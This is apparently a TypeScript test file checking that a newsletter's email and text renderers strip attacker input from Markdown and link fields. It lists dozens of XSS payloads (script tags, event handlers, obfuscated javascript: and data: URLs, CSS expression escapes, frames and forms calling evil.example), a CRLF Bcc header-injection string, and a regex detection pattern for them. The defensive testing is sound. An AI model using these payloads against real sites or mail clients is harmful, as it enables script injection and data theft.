/** What attackers write into an issue, one trick a line; none of it gets into either medium. */
import type { BlockContent } from 'mdast';
import { describe, expect, test } from 'vitest';
import { renderEmail } from '../../../src/core/edition/email.ts';
import { projectPublic } from '../../../src/core/edition/project.ts';
import { renderText } from '../../../src/core/edition/text.ts';
import type { OpenIssue } from '../../../src/core/issue/issue.ts';
import type { LinkEntry } from '../../../src/core/link/link.ts';
import { parseMarkdown } from '../../../src/core/markdown/parse-markdown.ts';
import { context, entries, issueOf } from './compact-issue.ts';
import { expectFitHtml, expectFitText } from './fit-edition.ts';

/** Stands in what must be gone; what a reader may see as mere words does not hold it. */
const EVIL = /evil|javascript|vbscript|alert|data:|xpression|onerror/i;

/** The trick stands in the text and in a link’s comment alike. */
function editionsOf(markdown: string, parts: Partial<OpenIssue> = {}) {
  const { sections, ...issue } = issueOf(markdown);
  const reading = [{ ...entries.full, comment: parseMarkdown(markdown) }];
  const whole = projectPublic({ ...issue, sections: { ...sections, reading }, ...parts });
  return { html: renderEmail(whole, context).html, text: renderText(whole, context) };
}

/** Marks of Markdown around it show that the text went on. */
const around = (trick: string): string => `Before.\n\n${trick}\n\n::reading\n\nAfter.`;

describe.each([
  ['a script', '<script>evil()</script>'],
  ['a script in a line', 'x <script src="https://evil.example"></script> y'],
  ['a script left open', 'x <script>evil()'],
  ['a script cut in two', '<scr<script>ipt>evil()</script>'],
  ['a handler', '<p onclick="evil()" onmouseover=evil()>x</p>'],
  ['a picture’s handler', '<img src="x" onerror="evil()" alt="x">'],
  ['an SVG', '<svg onload="evil()"><script>evil()</script></svg>'],
  ['a frame', '<iframe src="https://evil.example" srcdoc="evil"></iframe>'],
  [
    'a form',
    '<form action="https://evil.example"><input name="evil"><button formaction="javascript:x">x</button></form>',
  ],
  ['an object', '<object data="evil.swf"></object><embed src="evil.swf">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a style sheet', '<style>p{background:url(https://evil.example)}</style>'],
  ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style', '<p style="position:fixed;background:url(https://evil.example)">x</p>'],
  ['a style on what is kept', '<em style="color:evil" class="evil" id="evil">x</em>'],
  ['a CSS escape', '<p style="width:\\65xpression(alert(1))">x</p>'],
  ['a CSS escape of six digits', '<p style="width:\\000065 xpression(alert(1))">x</p>'],
  ['a CSS comment', '<p style="width:e/**/xpression(alert(1))">x</p>'],
  [
    'an old attribute',
    '<table background="https://evil.example/x.png"><tr><td background="evil">x</table>',
  ],
  ['a script’s address', '[x](javascript:alert(1))'],
  ['one in capitals', '[x](JaVaScRiPt:alert(1))'],
  ['one with a tab', '[x](<java\tscript:alert(1)>)'],
  ['one with a line break in entities', '[x](java&#10;script:alert&#40;1&#41;)'],
  ['one after a control character', '[x](&#1;javascript:alert(1))'],
  ['one with a named entity', '[x](javascript&colon;alert(1))'],
  ['one with a zero-width space', '[x](java\u200bscript:alert(1))'],
  ['one in a definition', '[x][d]\n\n[d]: javascript:alert(1)'],
  ['one of a picture', '![x](javascript:alert(1))'],
  ['one of a picture by definition', '![x][d]\n\n[d]: <data:image/svg+xml,evil>'],
  ['one in HTML', '<a href="javascript:alert(1)">x</a>'],
  ['one in HTML with a tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['one in HTML after spaces', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['one of VBScript', '[x](vbscript:alert(1)) <a href="vbscript:alert(1)">x</a>'],
  ['data as a link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['data as a picture', '![x](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP)'],
  ['data as a picture in HTML', '<img alt="x" src="data:image/svg+xml,%3Csvg onload=evil()%3E">'],
  [
    'several pictures in one',
    '<img alt="x" src="https://a.example/x.png" srcset="https://evil.example 2x">',
  ],
  ['a file', '[x](file:///evil) ![x](file:///evil)'],
  ['a part of the mail', '[x](cid:evil) ![x](cid:evil)'],
  ['a conditional comment', '<!--[if mso]><a href="https://evil.example">x</a><![endif]-->'],
  ['a conditional comment, revealed', '<![if !mso]><script>evil()</script><![endif]>'],
  ['a comment closed early', '<!-- x --!><script>evil()</script> -->'],
  ['another comment closed early', '<!--><script>evil()</script>-->'],
  ['a declaration', '<!DOCTYPE html [<!ENTITY evil "evil">]>'],
  ['an instruction', '<?xml-stylesheet href="https://evil.example"?>'],
  ['a language of code', '```x" onclick="evil()\ncode\n```'],
])('%s', (_, trick) => {
  const { html, text } = editionsOf(around(trick));

  test('does not get into the HTML', () => {
    expectFitHtml(html);
    expect(html).not.toMatch(EVIL);
    expect(html).toContain('Before.');
  });

  test('does not get into the text', () => {
    expectFitText(text);
    expect(text).not.toMatch(EVIL);
    expect(text).toMatch(/^After\.$/m);
  });
});

const BREAK_OUT =
  '--></title></style></td></table><script>alert(1)</script><!--[if mso]>" onclick="x';
const REORDERED = 'a\u202eb\u2066c\u2069d\u202ce\u0000f\u0007g';

describe.each([
  ['marks', BREAK_OUT],
  ['hidden characters', REORDERED],
  ['line breaks', 'a\r\nBcc: x@example.org\r\n\r\nb'],
  ['the tag of the token', '__roundup_unsubscribe_token__'],
])('%s', (_, words) => {
  const link: LinkEntry = {
    ...entries.full,
    authors: [{ name: words, url: 'javascript:alert(1)' }],
    sources: [{ title: words, url: 'javascript:alert(1)' }],
    site: words,
    via: { name: words, url: 'data:text/html,x' },
    archived: 'javascript:alert(1)',
  };
  test.each<[string, Partial<OpenIssue>]>([
    ['the title', { title: words }],
    ['the preheader', { description: words }],
    [
      'the items of sections',
      {
        sections: {
          writing: [{ title: words, url: 'javascript:alert(1)', kind: 'article', summary: words }],
          building: [{ title: words, url: 'data:x', version: words, summary: words }],
          reading: [link],
        },
      },
    ],
  ])('in %s are words and nothing else', (_, parts) => {
    const { html, text } = editionsOf('::writing\n\n::building\n\n::reading', parts);
    expectFitHtml(html);
    expectFitText(text);
    expect(html).not.toMatch(/(?:href|src)="(?:javascript|data):/);
  });

  test('in links, pictures and code are words and nothing else', () => {
    const said = [{ type: 'text' as const, value: words }];
    const body = issueOf('x').body;
    const children: BlockContent[] = [
      {
        type: 'paragraph',
        children: [
          { type: 'link', url: `https://a.example/${words}`, title: words, children: said },
          { type: 'image', url: 'https://a.example/x.png', alt: words, title: words },
          { type: 'inlineCode', value: words },
        ],
      },
      {
        type: 'paragraph',
        children: [{ type: 'image', url: 'https://a.example/x.png', alt: words, title: words }],
      },
      { type: 'code', lang: words, value: words },
      { type: 'heading', depth: 2, children: said },
    ];
    const { html, text } = editionsOf('x', { body: { ...body, children } });
    expectFitHtml(html);
    expectFitText(text);
  });
});

test.each([
  ['a megabyte in one paragraph', 'word '.repeat(200_000)],
  ['a megabyte in one word', 'w'.repeat(1_000_000)],
  ['five hundred quotations in each other', `${'> '.repeat(500)}deep`],
  [
    'a list of two hundred levels',
    Array.from({ length: 200 }, (_, depth) => `${' '.repeat(2 * depth)}- deep`).join('\n'),
  ],
  ['five hundred elements in each other', `${'<div><b>'.repeat(500)}deep`],
  ['ten thousand breaks', 'a<br>'.repeat(10_000)],
])('%s is rendered all the same', (_, markdown) => {
  const issue = projectPublic(issueOf(markdown));
  expectFitHtml(renderEmail(issue, context).html);
  expectFitText(renderText(issue, context));
});
